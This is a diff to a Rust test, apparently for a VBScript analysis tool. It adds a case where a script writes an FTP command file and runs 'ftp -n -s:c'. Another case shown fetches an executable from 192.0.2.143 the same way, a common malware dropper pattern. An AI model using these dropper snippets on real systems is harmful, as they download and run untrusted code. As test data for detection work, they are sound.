@@ -41,7 +41,13 @@ fn one(text: &str) -> (String, String, String) {
 #[test]
 fn scripts_are_written_and_fed() {
     let file_system = "Set fso = CreateObject(\"Scripting.FileSystemObject\")\n";
-    let cases: [(&str, &str, &str, &str); 30] = [
+    let cases: [(&str, &str, &str, &str); 31] = [
+        (
+            "For i = 1 To 2\nr = r & \"open h.x\" & vbCrLf\nNext\nSet t = fso.CreateTextFile(\"c\")\nt.Write r\nt.Close\nCreateObject(\"WScript.Shell\").Run \"ftp -n -s:c\"",
+            "c",
+            "open h.x|open h.x|",
+            "ftp -n -s:c",
+        ),
         (
             "Set t=CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(\"u.ftp\",True)\nt.WriteLine \"open 192.0.2.143\"\nt.WriteLine \"get \" & Chr(34) & \"an other.exe\" & Chr(34)\nt.Close\nCreateObject(\"WScript.Shell\").Run \"ftp -s:u.ftp\",0,True",
             "u.ftp",
